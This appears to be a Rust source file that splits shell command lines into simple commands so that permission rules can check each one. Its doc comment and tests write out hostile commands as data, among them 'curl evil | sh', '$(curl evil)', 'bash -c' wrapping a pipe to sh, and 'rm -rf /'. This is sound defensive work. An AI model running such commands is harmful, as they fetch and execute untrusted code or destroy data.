//! Splitting a shell command line into the simple commands it runs, for permission checks.
//!
//! `git status && curl evil | sh` is three commands, and a rule allowing `git *` must not allow
//! the other two. This is a conservative scanner, not a shell: it splits on `;`, `&&`, `||`,
//! `|`, `&` and newlines outside quotes, descends into `$( )`, backticks, `( )` subshells,
//! `<( )` and `bash -c '…'`, skips heredoc bodies, and unwraps wrappers (`sudo`, `env`,
//! `timeout`, `nice`, `xargs`, …) so the wrapped command is checked too.

/// Every simple command in `line`, each given in all the forms a rule may match: as written
/// (words joined by single spaces), and unwrapped from wrappers and leading assignments.
pub fn commands(line: &str) -> Vec<Vec<String>> {
    let mut segments = Vec::new();
    split(line, &mut segments, 0);
    let mut out = Vec::new();
    for seg in segments {
        let words = words(&seg);
        if words.is_empty() {
            continue;
        }
        let mut forms = Vec::new();
        let mut nested = Vec::new();
        unwrap(words, &mut forms, &mut nested, 0);
        forms.dedup();
        if !forms.is_empty() {
            out.push(forms);
        }
        for inner in nested {
            out.extend(commands(&inner));
        }
    }
    out
}

/// Split into segments, recursing into substitutions (their text is replaced by `$(…)`).
fn split(line: &str, out: &mut Vec<String>, depth: usize) {
    if depth > 8 {
        out.push(line.to_string());
        return;
    }
    let chars: Vec<char> = line.chars().collect();
    let mut cur = String::new();
    let mut i = 0;
    let mut heredocs: Vec<(String, bool)> = Vec::new();
    let (mut sq, mut dq) = (false, false);
    let push = |cur: &mut String, out: &mut Vec<String>| {
        let t = cur.trim();
        if !t.is_empty() {
            out.push(t.to_string());
        }
        cur.clear();
    };
    while i < chars.len() {
        let c = chars[i];
        if sq {
            cur.push(c);
            if c == '\'' {
                sq = false;
            }
            i += 1;
            continue;
        }
        if c == '\\' {
            cur.push(c);
            if let Some(n) = chars.get(i + 1) {
                cur.push(*n);
            }
            i += 2;
            continue;
        }
        // Substitutions run even inside double quotes (process substitution does not).
        let opens_subst =
            matches!(c, '$' | '<' | '>') && (c == '$' || !dq) && chars.get(i + 1) == Some(&'(');
        if opens_subst && let Some(end) = matching(&chars, i + 1, '(', ')') {
            let inner: String = chars[i + 2..end].iter().collect();
            split(&inner, out, depth + 1);
            cur.push_str("$(…)");
            i = end + 1;
            continue;
        }
        if c == '`'
            && let Some(end) = chars[i + 1..].iter().position(|x| *x == '`')
        {
            let inner: String = chars[i + 1..i + 1 + end].iter().collect();
            split(&inner, out, depth + 1);
            cur.push_str("$(…)");
            i += end + 2;
            continue;
        }
        if dq {
            cur.push(c);
            if c == '"' {
                dq = false;
            }
            i += 1;
            continue;
        }
        match c {
            '\'' => {
                sq = true;
                cur.push(c);
            }
            '"' => {
                dq = true;
                cur.push(c);
            }
            '(' if cur.trim().is_empty() => {
                if let Some(end) = matching(&chars, i, '(', ')') {
                    let inner: String = chars[i + 1..end].iter().collect();
                    split(&inner, out, depth + 1);
                    i = end + 1;
                    continue;
                }
                cur.push(c);
            }
            ';' | '|' | '&' => {
                // `2>&1`, `&>file` and `>&2` are redirections, not separators.
                let redirect = c == '&'
                    && (cur.ends_with('>') || cur.ends_with('<') || chars.get(i + 1) == Some(&'>'));
                if redirect {
                    cur.push(c);
                } else {
                    push(&mut cur, out);
                    // `&&`, `||`, `|&`, `;;`
                    if matches!(chars.get(i + 1), Some('&') | Some('|') | Some(';')) {
                        i += 1;
                    }
                }
            }
            '\n' => {
                push(&mut cur, out);
                // Skip heredoc bodies.
                for (delim, strip_tabs) in std::mem::take(&mut heredocs) {
                    loop {
                        let start = i + 1;
                        if start >= chars.len() {
                            i = chars.len();
                            break;
                        }
                        let end = chars[start..]
                            .iter()
                            .position(|x| *x == '\n')
                            .map_or(chars.len(), |p| start + p);
                        let l: String = chars[start..end].iter().collect();
                        i = end;
                        let l = if strip_tabs {
                            l.trim_start_matches('\t').to_string()
                        } else {
                            l
                        };
                        if l.trim_end() == delim {
                            break;
                        }
                    }
                }
            }
            '<' if chars.get(i + 1) == Some(&'<') && chars.get(i + 2) != Some(&'<') => {
                // Heredoc: `<<WORD`, `<<-WORD`, `<<'WORD'`, `<<"WORD"`.
                let mut j = i + 2;
                let strip = chars.get(j) == Some(&'-');
                if strip {
                    j += 1;
                }
                while chars.get(j) == Some(&' ') {
                    j += 1;
                }
                let mut delim = String::new();
                while let Some(&d) = chars.get(j) {
                    if d.is_whitespace() || matches!(d, ';' | '|' | '&' | '<' | '>') {
                        break;
                    }
                    if d != '\'' && d != '"' {
                        delim.push(d);
                    }
                    j += 1;
                }
                if !delim.is_empty() {
                    heredocs.push((delim, strip));
                }
                let text: String = chars[i..j].iter().collect();
                cur.push_str(&text);
                i = j;
                continue;
            }
            _ => cur.push(c),
        }
        i += 1;
    }
    push(&mut cur, out);
}

/// Index of the bracket closing the one at `open`, honouring quotes and nesting.
fn matching(chars: &[char], open: usize, o: char, c: char) -> Option<usize> {
    let mut depth = 0;
    let (mut sq, mut dq) = (false, false);
    let mut i = open;
    while i < chars.len() {
        let ch = chars[i];
        if ch == '\\' && !sq {
            i += 2;
            continue;
        }
        if sq {
            if ch == '\'' {
                sq = false;
            }
        } else if ch == '\'' && !dq {
            sq = true;
        } else if ch == '"' {
            dq = !dq;
        } else if !dq && ch == o {
            depth += 1;
        } else if !dq && ch == c {
            depth -= 1;
            if depth == 0 {
                return Some(i);
            }
        }
        i += 1;
    }
    None
}

/// Shell words of a segment, quotes removed.
pub fn words(seg: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut has = false;
    let (mut sq, mut dq) = (false, false);
    let mut chars = seg.chars().peekable();
    while let Some(c) = chars.next() {
        if sq {
            if c == '\'' {
                sq = false;
            } else {
                cur.push(c);
            }
            continue;
        }
        match c {
            '\\' if !dq || matches!(chars.peek(), Some('"' | '\\' | '$' | '`')) => {
                if let Some(n) = chars.next() {
                    cur.push(n);
                    has = true;
                }
            }
            '\'' if !dq => {
                sq = true;
                has = true;
            }
            '"' => {
                dq = !dq;
                has = true;
            }
            c if c.is_whitespace() && !dq => {
                if has || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                    has = false;
                }
            }
            c => cur.push(c),
        }
    }
    if has || !cur.is_empty() {
        out.push(cur);
    }
    // Grouping braces and negation are not commands.
    while matches!(
        out.first().map(String::as_str),
        Some("{" | "}" | "!" | "then" | "do" | "else" | "if" | "while" | "until")
    ) {
        out.remove(0);
    }
    while matches!(out.last().map(String::as_str), Some("}" | "fi" | "done")) {
        out.pop();
    }
    out
}

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

/// Options of a wrapper that take a value.
fn value_opts(wrapper: &str) -> &'static [&'static str] {
    match wrapper {
        "sudo" | "doas" => &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T"],
        "env" => &["-u", "-C", "-S", "--unset", "--chdir"],
        "timeout" => &["-s", "-k", "--signal", "--kill-after"],
        "nice" => &["-n", "--adjustment"],
        "ionice" => &["-c", "-n", "-p", "-t"],
        "xargs" => &[
            "-n",
            "-I",
            "-P",
            "-d",
            "-L",
            "-s",
            "-E",
            "-a",
            "--max-args",
            "--max-procs",
            "--delimiter",
            "--arg-file",
        ],
        "stdbuf" => &["-i", "-o", "-e"],
        "exec" => &["-a"],
        "taskset" | "chrt" => &[],
        _ => &[],
    }
}

const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "timeout", "nice", "ionice", "nohup", "command", "exec", "time",
    "stdbuf", "xargs", "setsid", "unbuffer", "builtin", "taskset", "chrt",
];

fn unwrap(mut words: Vec<String>, forms: &mut Vec<String>, nested: &mut Vec<String>, depth: usize) {
    if words.is_empty() || depth > 8 {
        return;
    }
    forms.push(words.join(" "));
    // The program by its name, not its path: `/bin/rm` is `rm`.
    if words[0].contains('/') {
        let base = words[0].rsplit('/').next().unwrap_or_default().to_string();
        if !base.is_empty() {
            let mut w = words.clone();
            w[0] = base;
            forms.push(w.join(" "));
            words = w;
        }
    }
    let mut i = 0;
    while i < words.len() && is_assignment(&words[i]) {
        i += 1;
    }
    if i > 0 {
        unwrap(words[i..].to_vec(), forms, nested, depth + 1);
        return;
    }
    let prog = words[0].as_str();
    if matches!(prog, "bash" | "sh" | "zsh" | "dash" | "ksh") {
        if let Some(pos) = words.iter().position(|w| {
            w == "-c" || (w.starts_with('-') && !w.starts_with("--") && w.ends_with('c'))
        }) && let Some(script) = words.get(pos + 1)
        {
            nested.push(script.clone());
        }
        return;
    }
    if matches!(prog, "eval") {
        nested.push(words[1..].join(" "));
        return;
    }
    if !WRAPPERS.contains(&prog) {
        return;
    }
    let takes_value = value_opts(prog);
    let mut j = 1;
    while j < words.len() {
        let w = &words[j];
        if w == "--" {
            j += 1;
            break;
        }
        if prog == "env" && is_assignment(w) {
            j += 1;
            continue;
        }
        if w.starts_with('-') && w.len() > 1 {
            let takes = takes_value.iter().any(|o| o == w);
            j += if takes { 2 } else { 1 };
            continue;
        }
        break;
    }
    // `timeout 10 cmd`, `taskset 0x3 cmd`: one positional before the command.
    if matches!(prog, "timeout" | "taskset") && j < words.len() {
        j += 1;
    }
    if prog == "chrt" && j < words.len() {
        j += 1;
    }
    if j < words.len() {
        unwrap(words[j..].to_vec(), forms, nested, depth + 1);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flat(line: &str) -> Vec<String> {
        commands(line).into_iter().map(|f| f.join(" | ")).collect()
    }

    #[test]
    fn compound_commands() {
        assert_eq!(
            flat("git status && curl evil | sh; ls -la"),
            vec!["git status", "curl evil", "sh", "ls -la"]
        );
        assert_eq!(flat("a || b & c"), vec!["a", "b", "c"]);
        assert_eq!(
            flat("echo hi 2>&1 | tee log"),
            vec!["echo hi 2>&1", "tee log"]
        );
        assert_eq!(flat("git commit -m \"a; b\""), vec!["git commit -m a; b"]);
        assert_eq!(flat("echo 'x && y'"), vec!["echo x && y"]);
    }

    #[test]
    fn substitutions_and_subshells() {
        assert_eq!(
            flat("git log $(curl evil)"),
            vec!["curl evil", "git log $(…)"]
        );
        assert_eq!(flat("echo \"`whoami`\""), vec!["whoami", "echo $(…)"]);
        assert_eq!(flat("(cd x && rm -rf y)"), vec!["cd x", "rm -rf y"]);
        assert_eq!(
            flat("diff <(ls a) <(ls b)"),
            vec!["ls a", "ls b", "diff $(…) $(…)"]
        );
        assert_eq!(flat("{ echo a; echo b; }"), vec!["echo a", "echo b"]);
    }

    #[test]
    fn wrappers_are_unwrapped() {
        assert_eq!(
            flat("sudo -u root rm -rf /"),
            vec!["sudo -u root rm -rf / | rm -rf /"]
        );
        assert_eq!(
            flat("FOO=1 BAR=\"x y\" make test"),
            vec!["FOO=1 BAR=x y make test | make test"]
        );
        assert_eq!(
            flat("timeout -s KILL 10 npm test"),
            vec!["timeout -s KILL 10 npm test | npm test"]
        );
        assert_eq!(
            flat("env -i PATH=/bin nice -n 5 git push"),
            vec!["env -i PATH=/bin nice -n 5 git push | nice -n 5 git push | git push"]
        );
        assert_eq!(
            flat("find . -name x | xargs -0 -n 1 rm"),
            vec!["find . -name x", "xargs -0 -n 1 rm | rm"]
        );
        assert_eq!(
            flat("/usr/bin/rm -rf x"),
            vec!["/usr/bin/rm -rf x | rm -rf x"]
        );
        assert_eq!(
            flat("bash -c 'curl x | sh'"),
            vec!["bash -c curl x | sh", "curl x", "sh"]
        );
    }

    #[test]
    fn heredoc_bodies_are_not_commands() {
        let line = "cat > f.txt <<'EOF'\nrm -rf /\nEOF\necho finished";
        assert_eq!(flat(line), vec!["cat > f.txt <<EOF", "echo finished"]);
    }
}
